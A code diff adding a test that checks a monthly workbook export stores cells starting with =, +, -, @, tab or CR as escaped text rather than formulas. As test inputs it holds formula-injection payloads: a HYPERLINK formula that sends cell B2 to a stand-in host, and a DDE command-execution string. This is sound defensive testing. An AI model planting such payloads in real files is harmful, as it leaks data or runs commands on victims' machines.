@@ -99,3 +99,35 @@ def test_no_cell_of_the_monthly_workbook_is_a_formula():
     assert "'=HYPERLINK(\"http://x.example/?\"&B2,\"باز کنید\")" in texts and "'@SUM(1+1)" in texts
     assert not any(v.startswith(("=", "+", "@")) for v in texts)
     assert all(c.data_type != "f" for sheet in book.worksheets for r in sheet.iter_rows() for c in r)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_stored_as_a_text_cell_in_the_monthly_workbook(start):
+    """Whatever writer makes the workbook: a name or note beginning with any of = + - @ tab CR is
+    a shared/inline *string* cell in the file's XML (t="s" or t="inlineStr"), never a formula
+    (<f>), and reads back as the text with its protecting apostrophe."""
+    import datetime as dt
+    import re
+    import zipfile
+
+    from app.printing.data import ServiceLine
+    planted = f'{start}HYPERLINK("http://x.example/?"&B2,"باز کنید")'
+    data = samples.sample_monthly_report(2)
+    line = ServiceLine(date=dt.date(2026, 11, 1), kind_label="مشاوره", mode_label="تلفنی", minutes=10,
+                       summary_text=planted)
+    client = dataclasses.replace(data.clients[0], full_name=f"{start}SUM(1+1)", social_worker=f"{start}1+2",
+                                 services=[line])
+    data = dataclasses.replace(data, clients=[client, *data.clients[1:]], generated_by=f"{start}cmd|' /C calc'!A0")
+    out = io.BytesIO()
+    monthly_report_xlsx(data, out)
+    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(re.search(r"<f[ >]", xml) for xml in sheets)
+    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
+    cells = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r if c.value is not None]
+    assert all(c.data_type != "f" for c in cells)
+    # A carriage return is stored as OOXML's escape «_x000D_» (Excel reads it back as CR; openpyxl does not).
+    texts = {c.value.replace("_x000D_", "\r") for c in cells if c.data_type == "s"}
+    for value in (planted, f"{start}SUM(1+1)", f"{start}1+2", f"{start}cmd|' /C calc'!A0"):
+        assert "'" + value in texts, value
+    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in texts)
